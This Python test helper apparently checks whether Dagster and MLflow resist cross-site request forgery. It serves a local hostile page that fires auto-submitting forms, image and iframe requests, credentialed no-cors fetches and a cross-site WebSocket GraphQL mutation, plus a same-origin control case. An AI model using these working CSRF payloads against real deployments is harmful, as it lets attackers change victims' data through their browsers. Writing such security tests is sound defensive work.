"""Another web site, which makes the browser of a person send what that person never asked for."""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

from playwright.sync_api import Page

WAYS = ("form", "image", "frame", "fetch", "get", "socket")
"""How the site tries it; each would add a batch of its name."""
MUTATION = (
    'mutation { addDynamicPartition(repositorySelector: {repositoryName: "__repository__", '
    'repositoryLocationName: "fraud_assets"}, partitionsDefName: "batch", '
    'partitionKey: "%s") { __typename } }'
)
PAGE = """<!doctype html><title>at work</title>
<iframe name="hidden"></iframe>
<form id="form" method="post" enctype="text/plain" target="hidden" action="%(form)s">
  <input name="a" value="b"></form>
<form id="model" method="post" enctype="text/plain" target="hidden" action="%(mlflow)s">
  <input name='{"name": "evil", "a": "' value='"}'></form>
<img src="%(image)s"><iframe src="%(frame)s"></iframe>
<script>
  document.getElementById("form").submit();
  setTimeout(() => document.getElementById("model").submit(), 700);
  const sent = {mode: "no-cors", credentials: "include"};
  const plain = {method: "POST", headers: {"Content-Type": "text/plain"}, body: "{}"};
  const opened = new Promise(done => {
    const socket = new WebSocket("%(socket)s", "graphql-ws");
    socket.onopen = () => {
      socket.send(JSON.stringify({type: "connection_init", payload: {}}));
      socket.send(JSON.stringify({type: "start", id: "1", payload: {query: %(mutation)s}}));
      setTimeout(() => done("open"), 700);
    };
    socket.onerror = () => done("refused");
  });
  Promise.allSettled([fetch("%(fetch)s", {...sent, ...plain}), fetch("%(get)s", sent), opened])
    .then(all => setTimeout(() => document.title = "done: socket " + all[2].value, 1500));
</script>"""


@contextmanager
def other_site(dagster: str, mlflow: str = "") -> Iterator[str]:
    """Serve a page that attacks a Dagster, and an MLflow if there is one; yields its address."""
    urls = {way: f"{dagster}/graphql?query={quote(MUTATION % f'evil-{way}')}" for way in WAYS}
    urls["socket"] = f"{dagster.replace('http', 'ws', 1)}/graphql"
    urls["mutation"] = json.dumps(MUTATION % "evil-socket")
    urls["mlflow"] = f"{mlflow}/api/2.0/mlflow/experiments/create" if mlflow else "about:blank"
    content = (PAGE % urls).encode()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, *_):
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        server.server_close()


def attack(page: Page, dagster: str, mlflow: str = "") -> str:
    """Let a person who uses Dagster open the other site; return what became of the websocket."""
    page.goto(f"{dagster}/runs", wait_until="domcontentloaded")
    with other_site(dagster, mlflow) as evil:
        page.goto(evil, wait_until="domcontentloaded")
        page.wait_for_function("document.title.startsWith('done')", timeout=30_000)
        return page.title()


def by_the_page_itself(page: Page, dagster: str) -> None:
    """Add a batch as a page of Dagster's own does: what is refused to others is not broken."""
    page.goto(f"{dagster}/runs", wait_until="domcontentloaded")
    page.evaluate(
        """query => fetch("/graphql", {method: "POST", body: JSON.stringify({query}),
           headers: {"Content-Type": "application/json"}}).then(answer => answer.json())""",
        MUTATION % "by-the-page",
    )
